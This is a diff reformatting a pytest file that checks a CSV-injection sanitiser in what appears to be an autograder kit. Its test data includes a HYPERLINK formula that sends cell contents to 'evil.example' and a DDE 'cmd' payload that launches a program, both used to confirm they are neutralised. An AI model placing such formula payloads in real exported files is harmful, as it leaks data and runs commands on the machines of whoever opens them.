@@ -1,4 +1,5 @@
 """Do the kit's CSV files keep spreadsheet formulas out (OWASP "CSV Injection")?"""
+
 import csv
 import os
 
@@ -7,10 +8,22 @@ import pytest
 from autograder.csvsafe import safe_cell, unsafe_cell, write_csv
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+41", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "\n=1",
-                                  '=HYPERLINK("http://evil.example/?"&A1,"click")'])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        "+41",
+        "-2+3",
+        "@SUM(A1:A2)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    ],
+)
 def test_formula_starts_get_a_single_quote(text):
-    """Does every cell beginning with = + - @ tab CR (or LF) come out as text behind a single quote?"""
+    """Does every cell beginning with = + - @ tab CR (or LF) come out as
+    text behind a single quote?"""
     assert safe_cell(text) == "'" + text
     assert unsafe_cell(safe_cell(text)) == text
 
@@ -27,7 +40,8 @@ def test_ordinary_cells_and_numbers_are_unchanged():
 
 
 def test_write_csv_is_atomic_utf8_and_safe(tmp_path):
-    """Does write_csv replace the file whole, in UTF-8, with every cell neutralised and nothing left over?"""
+    """Does write_csv replace the file whole, in UTF-8, with every cell
+    neutralised and nothing left over?"""
     path = tmp_path / "out" / "t.csv"
     write_csv(path, ["name", "msg"], [["old", "old"]])
     write_csv(path, ["name", "msg"], [["Zoë", "=cmd|' /C calc'!A0"], ["-victor", 'say "hi", ok']])
